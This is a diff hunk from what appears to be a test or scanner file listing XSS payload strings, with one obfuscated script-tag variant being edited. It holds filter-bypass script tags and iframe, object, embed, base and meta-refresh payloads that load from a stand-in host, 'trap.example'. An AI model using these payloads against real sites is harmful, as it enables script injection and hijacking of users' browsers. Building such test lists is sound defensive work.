@@ -18,7 +18,7 @@ ASK = "http://trap.example"
 KINDS = {
     "tags": [
         f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", f"<script src={ASK}/a.js></script>",
-        f"<scr<script>ipt>{RUN}</script>", f"<script\x0c>{RUN}</script>", f"<iframe src={ASK}/f></iframe>",
+        f"<scr<script>ipt>{RUN}</script>", f"<script\x0cdefer>{RUN}</script>", f"<iframe src={ASK}/f></iframe>",
         f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<object data={ASK}/o></object>",
         f"<embed src={ASK}/e>", f"<link rel=stylesheet href={ASK}/c.css>", f"<base href={ASK}/>",
         f"<meta http-equiv=refresh content='0;url={ASK}'>",
